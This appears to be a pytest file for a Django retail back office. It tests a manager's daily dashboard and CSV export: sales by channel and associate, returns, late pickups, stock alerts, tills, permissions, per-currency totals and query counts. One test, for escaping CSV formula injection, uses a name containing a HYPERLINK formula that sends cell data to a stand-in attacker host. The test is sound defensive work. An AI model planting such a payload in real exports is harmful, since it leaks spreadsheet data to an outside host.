"""The manager pages: today against the same day last week by channel and by
associate, returns, late pickups, stock below safety stock and the day's tills, for
the manager's shops only (HQ: all, or one), as a page with charts and as CSV, in a
fixed number of queries."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from inventory.models import PriceList, PriceListPrice, StockLevel
from omnistore.accounts.models import Role
from orders.models import Register
from orders.services.refunds import return_at_counter
from orders.services.till import open_till
from tests.approvals.helpers import make_approver
from tests.factories import StaffFactory, UserFactory, earlier_today
from tests.orders.factories import pickup_order, shop, stocked
from tests.orders.returns_helpers import counter_sale, line_request

pytestmark = pytest.mark.django_db
D = Decimal


@pytest.fixture
def milano():
    return shop(code="MI01", name="Milano Centro")


@pytest.fixture
def torino():
    return shop(code="TO01", name="Torino Roma")


@pytest.fixture
def giulia(milano):
    return StaffFactory(store=milano, first_name="Giulia", last_name="Bianchi")


@pytest.fixture
def manager(client, milano):
    user = make_approver(StaffFactory(store=milano, role=Role.STORE_MANAGER))
    client.force_login(user)
    return client


def a_day_at(store, associate, *, sales=1):
    """Sales today and a week ago, a late pickup, a return, a stock alert, a till."""
    now = timezone.now()
    for _ in range(sales):
        counter_sale(
            store=store, lines=[(stocked(store, 5, price="30.00"), 1)], staff=associate
        )
    counter_sale(
        store=store,
        lines=[(stocked(store, 5, price="20.00"), 1)],
        staff=associate,
        now=earlier_today(timedelta(minutes=5), now) - timedelta(days=7),
    )
    sold = counter_sale(
        store=store, lines=[(stocked(store, 5, price="10.00"), 1)], staff=associate
    )
    return_at_counter(
        order=sold.number,
        lines=[line_request(sold)],
        location=store,
        actor=associate,
    )
    pickup_order(
        store=store,
        lines=[(stocked(store, 5, price="40.00"), 1)],
        now=now - timedelta(hours=6),
    )
    low = stocked(store, 2)
    StockLevel.objects.filter(variant=low, location=store).update(safety_stock=4)
    register = Register.objects.create(
        location=store, name=f"Till {Register.objects.count() + 1}"
    )
    open_till(register=register, counts={D("10"): 3}, actor=associate)


def test_the_day_compares_with_last_week_by_channel_and_associate(
    manager, milano, torino, giulia
):
    a_day_at(milano, giulia)
    a_day_at(torino, StaffFactory(store=torino, first_name="Luca", last_name="Neri"))
    page = manager.get(reverse("staff:manager_day")).content.decode()
    assert "Today at Milano Centro" in page
    # by channel: store 30 + 10 today vs 20 last week; web pickup 40 (placed today)
    assert "Giulia Bianchi" in page and "Luca Neri" not in page
    assert 'data-testid="by-channel"' in page and "+100%" in page
    assert page.count("<svg") >= 2 and "Revenue by associate" in page
    assert 'data-testid="returns-today"' in page
    assert 'data-testid="late-pickups"' in page
    assert 'data-testid="stock-alerts"' in page and "Torino Roma" not in page
    assert 'data-testid="tills-today"' in page
    rule = page.split('data-testid="shop-sales-rule">')[1].split("</p>")[0]
    assert "delivered home belong to no shop" in rule
    assert reverse("admin:orders_order_report") in rule


def test_the_csv_holds_the_same_figures(manager, milano, giulia):
    a_day_at(milano, giulia)
    response = manager.get(reverse("staff:manager_day_csv"))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    store = next(r for r in rows if r[:2] == ["channel", "Store"])
    assert store[2:] == ["2", "40.00", "1", "20.00", "EUR"]
    giulia_row = next(r for r in rows if r[:2] == ["associate", "Giulia Bianchi"])
    assert giulia_row[2] == "2"
    assert sum(1 for r in rows if r and r[0] == "late_pickup") == 1
    assert sum(1 for r in rows if r and r[0] == "stock_alert") == 1
    assert sum(1 for r in rows if r and r[0] == "till") == 1
    assert sum(1 for r in rows if r and r[0] == "return") == 1
    late = next(r for r in rows if r and r[0] == "late_pickup")
    assert late[2] == "Milano Centro" and late[5] == "EUR"  # shop and currency
    assert late[6].endswith(("+01:00", "+02:00"))  # the shops' clock, as on the page


def test_the_csv_writes_a_name_that_looks_like_a_formula_as_text(
    manager, milano, giulia
):
    giulia.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Giulia")'
    giulia.save()
    a_day_at(milano, giulia)
    response = manager.get(reverse("staff:manager_day_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    labels = [r[1] for r in rows if r and r[0] == "associate"]
    assert any(label.startswith("'=HYPERLINK(") for label in labels), labels
    assert not any(label.startswith("=") for label in labels)


def test_hq_sees_every_shop_or_one(client, milano, torino, giulia):
    a_day_at(milano, giulia)
    a_day_at(torino, StaffFactory(store=torino, first_name="Luca", last_name="Neri"))
    hq = make_approver(UserFactory(role=Role.HQ), "Headquarters")
    client.force_login(hq)
    page = client.get(reverse("staff:manager_day")).content.decode()
    assert "in your 2 shops" in page and "Luca Neri" in page
    one = client.get(reverse("staff:manager_day"), {"shop": torino.pk})
    text = one.content.decode()
    assert "Today at Torino Roma" in text and "Giulia Bianchi" not in text


def test_associates_and_managers_without_the_permission_get_nothing(
    client, milano, giulia
):
    client.force_login(giulia)
    assert client.get(reverse("staff:manager_day")).status_code == 404
    assert client.get(reverse("staff:manager_day_csv")).status_code == 404
    no_group = StaffFactory(store=milano, role=Role.STORE_MANAGER)
    no_group.groups.clear()  # the manager group (and its page right) taken away
    client.force_login(no_group)
    response = client.get(reverse("staff:manager_day"))
    assert response.status_code == 302 and "/staff/login/" in response["Location"]


def test_euros_and_francs_are_never_added_up(client, milano, giulia):
    """HQ over a shop selling in euro and one in francs: a row and a total per
    currency, each amount with its currency."""
    zurich = shop(code="ZH01", name="Zürich Bahnhofstrasse", country="CH")
    franc_item = stocked(zurich, 5, price="45.00")
    PriceListPrice.objects.create(
        price_list=PriceList.objects.get(code="CHF"),
        variant=franc_item,
        price=D("50.00"),
    )
    counter_sale(
        store=milano, lines=[(stocked(milano, 5, price="30.00"), 1)], staff=giulia
    )
    luca = StaffFactory(store=zurich, first_name="Luca", last_name="Neri")
    counter_sale(store=zurich, lines=[(franc_item, 1)], staff=luca)
    hq = make_approver(UserFactory(role=Role.HQ), "Headquarters")
    client.force_login(hq)
    page = client.get(reverse("staff:manager_day")).content.decode()
    assert "30.00 EUR" in page and "50.00 CHF" in page
    assert "80.00" not in page  # never one sum of both
    assert "Store (EUR)" in page and "Store (CHF)" in page
    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("staff:manager_day_csv")).content.decode())
        )
    )
    totals = {
        r[6]: r[3]
        for r in rows
        if r[:2] in (["channel", "All (EUR)"], ["channel", "All (CHF)"])
    }
    assert totals == {"EUR": "30.00", "CHF": "50.00"}


@pytest.mark.parametrize("sales", [1, 6])
def test_the_page_costs_a_fixed_number_of_queries(
    manager, milano, giulia, sales, django_assert_num_queries
):
    a_day_at(milano, giulia, sales=sales)
    for _ in range(sales):
        a_day_at(milano, StaffFactory(store=milano))
    with django_assert_num_queries(13):  # one reads the shops the user belongs to
        response = manager.get(reverse("staff:manager_day"))
    assert response.status_code == 200


def test_each_sale_counts_once_at_its_shop_and_gift_cards_sold_are_no_sales(
    client, milano, torino, giulia
):
    """A counter sale at Milano collected at Torino is Milano's sale; a gift card
    sold with an item is money owed, not revenue (as in the sales report)."""
    from omnistore.core.channels import Channel
    from orders.models import PaymentMethod
    from orders.services.checkout import LineRequest, place_order
    from orders.services.giftcard_sales import prepare_card_sale
    from orders.services.payments import PaymentRequest
    from orders.services.staff_sale import StaffSale

    counter_sale(
        store=milano,
        lines=[(stocked(milano, 5, price="189.00"), 1)],
        staff=giulia,
        staff_sale=StaffSale(
            gift_cards=[
                prepare_card_sale(number="6280001234567890", pin="4321", amount="50")
            ]
        ),
    )
    place_order(  # rung up at Milano, collected at Torino
        lines=[LineRequest(stocked(torino, 5, price="30.00"), 1)],
        channel=Channel.STORE,
        fulfilment="pickup",
        pickup_store=torino,
        placing_location=milano,
        staff=giulia,
        payments=[PaymentRequest(method=PaymentMethod.CARD_IN_STORE)],
        email="ada@example.com",
    )
    area = make_approver(StaffFactory(store=torino, role=Role.AREA_MANAGER))
    area.shops.add(milano, torino)
    client.force_login(area)

    def store_today(shop) -> list[str]:
        answer = client.get(reverse("staff:manager_day_csv"), {"shop": shop.pk})
        rows = list(csv.reader(io.StringIO(answer.content.decode())))
        return next((r[2:4] for r in rows if r[:2] == ["channel", "Store"]), [])

    assert store_today(milano) == ["2", "219.00"]  # 189 + 30, not the 50 card
    assert store_today(torino) == []  # the pickup is Milano's sale
    both = list(
        csv.reader(
            io.StringIO(client.get(reverse("staff:manager_day_csv")).content.decode())
        )
    )
    assert next(r[2:4] for r in both if r[:2] == ["channel", "Store"]) == [
        "2",
        "219.00",
    ]


def test_returns_today_include_one_started_earlier_and_received_today(
    manager, milano, giulia
):
    from orders.models import Return
    from orders.services.refunds import receive_and_refund_return
    from orders.services.returns import request_return
    from tests.orders.returns_helpers import collected_order, shopper

    _, customer = shopper()
    order = collected_order(
        store=milano, lines=[(stocked(milano, 3, price="60.00"), 1)], customer=customer
    )
    ret = request_return(
        order=order.number,
        customer=customer,
        channel="web",
        lines=[line_request(order)],
    )
    Return.objects.filter(pk=ret.pk).update(
        created_at=timezone.now() - timedelta(days=2)
    )
    receive_and_refund_return(return_request=ret, location=milano, actor=giulia)
    rows = list(
        csv.reader(
            io.StringIO(manager.get(reverse("staff:manager_day_csv")).content.decode())
        )
    )
    assert sum(1 for r in rows if r and r[0] == "return") == 1


def test_last_week_is_the_same_clock_time_across_a_clock_change():
    from datetime import UTC, datetime

    from orders.selectors.manager import Days

    days = Days.around(datetime(2026, 10, 26, 9, 0, tzinfo=UTC))  # 10:00 in Rome
    today_end = timezone.localtime(days.today.end)
    last_end = timezone.localtime(days.last_week.end)
    assert (today_end.hour, last_end.hour) == (10, 10)
    assert (today_end - last_end.replace(tzinfo=today_end.tzinfo)).days == 7


def test_the_sales_report_counts_a_shops_channel_and_shop_tables_alike(
    milano, torino, giulia
):
    """Scoped to Torino, the report's channel table holds what its shop table does:
    a sale Milano rang up and Torino hands over is in neither."""
    from omnistore.core.channels import Channel
    from orders.models import PaymentMethod
    from orders.selectors.reports import sales_report
    from orders.services.checkout import LineRequest, place_order
    from orders.services.payments import PaymentRequest

    place_order(
        lines=[LineRequest(stocked(torino, 5, price="30.00"), 1)],
        channel=Channel.STORE,
        fulfilment="pickup",
        pickup_store=torino,
        placing_location=milano,
        staff=giulia,
        payments=[PaymentRequest(method=PaymentMethod.CARD_IN_STORE)],
        email="ada@example.com",
    )
    counter_sale(
        store=torino, lines=[(stocked(torino, 5, price="20.00"), 1)], staff=giulia
    )
    report = sales_report(shop_ids=[torino.pk])
    assert [(r["orders"], r["revenue"]) for r in report.by_channel] == [(1, D("20.00"))]
    assert sum(r["counter_orders"] for r in report.by_shop) == 1
